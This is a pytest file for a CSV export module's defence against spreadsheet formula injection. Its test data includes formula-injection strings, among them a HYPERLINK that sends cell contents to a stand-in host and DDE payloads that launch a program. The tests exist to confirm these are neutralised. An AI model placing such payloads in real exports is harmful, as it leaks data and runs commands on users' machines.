import csv
import io

import pytest

from core.csv_export import safe_cell, streamed_csv


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.test")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd", "=cmd|' /C calc'!A0"],
)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Acme Security", "FWN-2026-0001", "a=b", "", "1.5"])
def test_ordinary_text_is_exported_unchanged(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell_and_numbers_are_text():
    assert (safe_cell(None), safe_cell(-3), safe_cell(7)) == ("", "'-3", "7")


def test_the_streamed_response_is_a_csv_attachment_with_every_row():
    response = streamed_csv(filename="x.csv", header=["a", "b"], rows=iter([["=1", "ok"], ["2", None]]))

    body = b"".join(response.streaming_content).decode()

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert list(csv.reader(io.StringIO(body))) == [["a", "b"], ["'=1", "ok"], ["2", ""]]


HOSTILE_CELLS = [
    'x;=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "Mozilla/5.0;+cmd|' /C calc'!A0",
    "agent\t=1+1",
    "a, -2+3",
    'quoted;"=cmd"',
    "name;  @SUM(A1:A9)",
    "two\nlines\n=cmd",
    "first\r-cmd",
    " =1+1",
    '"=1+1"',
]


def _fields_as_a_spreadsheet_might_read(body: str, separator: str) -> list[str]:
    """Every field a spreadsheet could make of the file with this separator: with quotes honoured (csv module) and
    with quotes ignored (a plain split on rows and the separator)."""
    honoured = [field for row in csv.reader(io.StringIO(body), delimiter=separator) for field in row]
    ignored = [field for line in body.replace("\r", "\n").split("\n") for field in line.split(separator)]
    return honoured + ignored


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_cell_becomes_a_formula_when_the_file_is_read_with_another_separator(separator):
    response = streamed_csv(filename="x.csv", header=["user agent"], rows=[[cell] for cell in HOSTILE_CELLS])
    body = b"".join(response.streaming_content).decode()

    fields = _fields_as_a_spreadsheet_might_read(body, separator)

    formulas = [field for field in fields if field.lstrip(' "\t').startswith(("=", "+", "-", "@"))]
    assert formulas == []


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_a_hostile_cell_reads_back_whole_with_only_quote_marks_added(value):
    response = streamed_csv(filename="x.csv", header=["cell"], rows=[[value]])

    (_, (exported,)) = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))

    assert exported.replace("'", "") == value.replace("'", "")
